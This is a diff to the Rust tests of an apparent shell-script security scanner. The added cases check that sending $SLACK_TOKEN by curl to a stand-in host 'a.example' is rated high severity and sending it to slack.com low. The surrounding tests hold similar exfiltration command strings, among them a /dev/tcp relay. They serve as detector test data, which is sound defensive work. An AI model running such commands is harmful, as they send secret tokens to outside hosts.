@@ -77,6 +77,11 @@ fn a_word_in_an_address_is_not_this_machine() {
     check("a.sh", "cat </dev/tcp/a.example/9 >/dev/tcp/localhost/9\n", Verdict::Dangerous);
     check("a.sh", "curl https://a.example/?auth=$SLACK_TOKEN\n", Verdict::Dangerous);
     check("a.sh", "curl https://slack.a.example/?t=$SLACK_TOKEN\n", Verdict::Dangerous);
+    for (host, expected) in [("a.example", Severity::High), ("slack.com", Severity::Low)] {
+        let report = report("a.sh", &format!("curl https://{host}/ -H \"x: $SLACK_TOKEN\"\n"));
+        let found = report.findings.iter().find(|it| it.id == "exfil_other_host");
+        assert_eq!(found.map(|it| it.severity), Some(expected), "{report}");
+    }
 }
 
 #[test]
